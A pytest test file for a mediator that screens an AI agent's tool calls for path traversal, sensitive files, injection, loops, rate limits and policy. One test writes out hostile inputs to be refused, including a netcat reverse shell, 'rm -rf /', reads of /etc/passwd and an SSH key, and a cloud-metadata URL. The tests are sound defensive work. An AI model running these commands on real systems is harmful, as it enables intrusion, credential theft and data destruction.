"""Tests for the tool-call mediator."""

import glob
import json
import os
import shutil
import tempfile

import pytest

from core.audit_log import AuditLog
from core.config import DEFAULTS
from core.mediator import ToolMediator, format_refusal, _REFUSALS
from core.rate_limiter import RateLimiter
from core.tool_policy import ALLOWLIST_ONLY, PolicyConfig
from core.tool_protocol import ToolRegistry, build_registry
from core.validation import ErrorKind


@pytest.fixture
def root():
    td = tempfile.mkdtemp(prefix="toolgate_test_")
    try:
        yield td
    finally:
        shutil.rmtree(td, ignore_errors=True)


# ============================================================
# Refusals
# ============================================================

def test_every_error_kind_has_a_refusal():
    kinds = [v for k, v in vars(ErrorKind).items() if k.isupper()]
    assert kinds
    for kind in kinds:
        assert kind in _REFUSALS, kind


def test_format_refusal_loop_stop():
    text = format_refusal(ErrorKind.LOOP_STOP, "alternating pattern detected")
    assert text == "Detected a loop and stopped: alternating pattern detected. Let's try something different!"


def test_format_refusal_unknown_kind():
    assert format_refusal("Mystery", "because") == "This action was refused: because"


# ============================================================
# check_tool_call
# ============================================================

def test_allowed_call_returns_sanitized_input(root):
    m = ToolMediator(root)
    decision = m.check_tool_call("c1", "read_file", {"path": "src/../src/a.py", "limit": 10})
    assert decision["ok"] is True
    assert decision["input"] == {"path": os.path.join("src", "a.py"), "limit": 10}


def test_guard_denials_become_refusals(root):
    m = ToolMediator(root)
    cases = [
        ("read_file", {"path": "../../etc/passwd"}, ErrorKind.PATH_TRAVERSAL),
        ("read_file", {"path": ".ssh/id_rsa"}, ErrorKind.SENSITIVE_PATH),
        ("bash", {"command": "rm -rf /"}, ErrorKind.POLICY_DENIED),
        ("bash", {"command": "echo $(whoami)"}, ErrorKind.INJECTION_PATTERN),
        ("bash", {"command": "nc -e /bin/sh 10.0.0.1 9"}, ErrorKind.OBFUSCATION_DETECTED),
        ("grep", {"pattern": "(a+)+"}, ErrorKind.PATTERN_COMPLEXITY),
        ("grep", {"pattern": "todo", "glob_filter": "../*"}, ErrorKind.PATH_TRAVERSAL),
        ("web_fetch", {"url": "http://169.254.169.254/"}, ErrorKind.PRIVATE_ADDRESS),
        ("web_fetch", {"url": "file:///etc/passwd"}, ErrorKind.UNSUPPORTED_SCHEME),
    ]
    for tool, tool_input, kind in cases:
        decision = m.check_tool_call("c1", tool, tool_input)
        assert decision["ok"] is False, (tool, tool_input)
        assert decision["error_kind"] == kind, (tool, tool_input)
        assert decision["refusal"] == format_refusal(kind, decision["message"])


def test_disabled_tool_refused(root):
    decision = ToolMediator(root).check_tool_call("c1", "nodejs", {"code": "1+1"})
    assert decision["error_kind"] == ErrorKind.POLICY_DENIED
    assert "disabled" in decision["message"]


def test_malformed_input_refused(root):
    m = ToolMediator(root)
    assert m.check_tool_call("c1", "bash", "ls")["error_kind"] == ErrorKind.INVALID_ENCODING
    assert m.check_tool_call("c1", "read_file", {"path": 123})["error_kind"] == ErrorKind.INVALID_ENCODING
    assert m.check_tool_call("c1", "", {})["error_kind"] == ErrorKind.INVALID_ENCODING


def test_reserved_arguments_refused(root):
    decision = ToolMediator(root).check_tool_call("c1", "read_file", {"path": "a", "workspace": "/"})
    assert decision["error_kind"] == ErrorKind.POLICY_DENIED


def test_caller_cannot_raise_command_timeout(root):
    decision = ToolMediator(root).check_tool_call(
        "c1", "bash", {"command": "sleep 1", "timeout_seconds": 10 ** 9})
    assert decision["ok"] is False
    assert decision["error_kind"] == ErrorKind.POLICY_DENIED
    assert "timeout_seconds" in decision["message"]


def test_loop_stop_clears_history_then_allows(root):
    m = ToolMediator(root)
    for _ in range(20):
        m.record_result("c1", "bash", {"command": "ls"}, 500)
    decision = m.check_tool_call("c1", "bash", {"command": "ls"})
    assert decision["error_kind"] == ErrorKind.LOOP_STOP
    assert "exact call bash repeated 20 times" in decision["refusal"]
    assert m.loop_detector.history("c1") == []
    assert m.check_tool_call("c1", "bash", {"command": "ls"})["ok"] is True


def test_loop_warning_passed_through(root):
    m = ToolMediator(root)
    for i in range(20):
        m.record_result("c1", "bash", {"command": f"echo {i}"}, 500)
    decision = m.check_tool_call("c1", "bash", {"command": "echo done"})
    assert decision["ok"] is True
    assert decision["warning"] == "bash called 20 times in a row"


def test_policy_snapshot_swap(root):
    m = ToolMediator(root)
    m.policy_store.replace(PolicyConfig(mode=ALLOWLIST_ONLY, allowed=("ls",)))
    assert m.check_tool_call("c1", "bash", {"command": "ls -la"})["ok"] is True
    assert m.check_tool_call("c1", "bash", {"command": "whoami"})["error_kind"] == ErrorKind.POLICY_DENIED


# ============================================================
# begin_turn
# ============================================================

def test_begin_turn_rate_limit(root):
    m = ToolMediator(root, rate_limiter=RateLimiter(max_requests=2))
    assert m.begin_turn("c1", user_id="u1") == {"ok": True}
    assert m.begin_turn("c1", user_id="u1")["ok"] is True
    denied = m.begin_turn("c1", user_id="u1")
    assert denied["error_kind"] == ErrorKind.RATE_LIMITED
    assert m.begin_turn("c1", user_id="u2")["ok"] is True


def test_begin_turn_loop_stop(root):
    m = ToolMediator(root)
    for i in range(10):
        m.record_result("c1", "grep", {"pattern": f"x{i}"}, 0)
    assert m.begin_turn("c1")["error_kind"] == ErrorKind.LOOP_STOP
    assert m.begin_turn("c1") == {"ok": True}


# ============================================================
# run
# ============================================================

def test_run_with_stub_registry(root):
    reg = ToolRegistry()
    reg.register_tool("read_file", lambda path: {"ok": True, "content": f"contents of {path}"}, "stub")
    m = ToolMediator(root)
    response = m.run("c1", "read_file", {"path": "a.txt"}, reg)
    assert response["ok"] is True
    assert response["output"].startswith("[TOOL_RESULT read_file]")
    assert "contents of a.txt" in response["output"]
    assert len(m.loop_detector.history("c1")) == 1


def test_run_refusal_is_not_recorded(root):
    m = ToolMediator(root)
    response = m.run("c1", "read_file", {"path": "../outside"}, ToolRegistry())
    assert response["ok"] is False
    assert response["output"] == response["refusal"]
    assert m.loop_detector.history("c1") == []


def test_run_write_then_read(root):
    m = ToolMediator(root)
    reg = build_registry(root, include_network=False)
    written = m.run("c1", "write_file", {"path": "notes/todo.txt", "content": "hello\n"}, reg)
    assert written["ok"] is True
    assert os.path.isfile(os.path.join(root, "notes", "todo.txt"))
    read = m.run("c1", "read_file", {"path": "notes/todo.txt"}, reg)
    assert read["ok"] is True
    assert "hello" in read["result"]["data"]["content"]


def test_audit_records_decisions(root):
    audit = AuditLog(os.path.join(root, "logs"))
    m = ToolMediator(root, audit=audit)
    m.check_tool_call("c1", "read_file", {"path": "a.txt"})
    m.check_tool_call("c1", "read_file", {"path": "../b.txt"})
    m.close()
    (log_path,) = glob.glob(os.path.join(root, "logs", ".toolgate-audit-*.jsonl"))
    with open(log_path, encoding="utf-8") as f:
        events = [json.loads(line) for line in f]
    decisions = [e for e in events if e["event"] == "decision"]
    assert [d["allowed"] for d in decisions] == [True, False]
    assert decisions[1]["error_kind"] == ErrorKind.PATH_TRAVERSAL
    assert events[-1]["event"] == "session_end"
    assert events[-1]["denials"] == 1


def test_from_config(root):
    config = dict(DEFAULTS, workspace=root, rate_limit=True, rate_limit_per_minute=3,
                  policy=ALLOWLIST_ONLY, allowed_commands=["git status"], loop_window=15)
    m = ToolMediator.from_config(config)
    assert m.workspace_root == root
    assert m.rate_limiter.max_requests == 3
    assert m.loop_detector.critical_threshold == 15
    assert m.policy_store.current.allowed == ("git status",)
